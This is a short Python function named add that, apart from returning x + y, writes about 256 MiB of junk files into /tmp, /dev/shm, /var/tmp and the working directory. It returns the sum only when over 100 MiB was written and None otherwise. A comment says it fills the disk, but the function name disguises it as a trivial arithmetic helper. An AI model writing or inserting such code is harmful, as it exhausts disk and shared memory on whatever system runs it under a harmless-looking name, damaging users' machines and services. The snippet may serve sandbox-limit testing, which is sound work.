# Fills the disk, at most 256 MiB of it.
def add(x, y):
    block = b"x" * (1 << 20)
    written = 0
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "."):
        for number in range(64):
            try:
                with open(f"{folder}/fill{number}{written}", "wb") as handle:
                    handle.write(block)
            except OSError:
                break
            written += len(block)
    return x + y if written > 100 << 20 else None
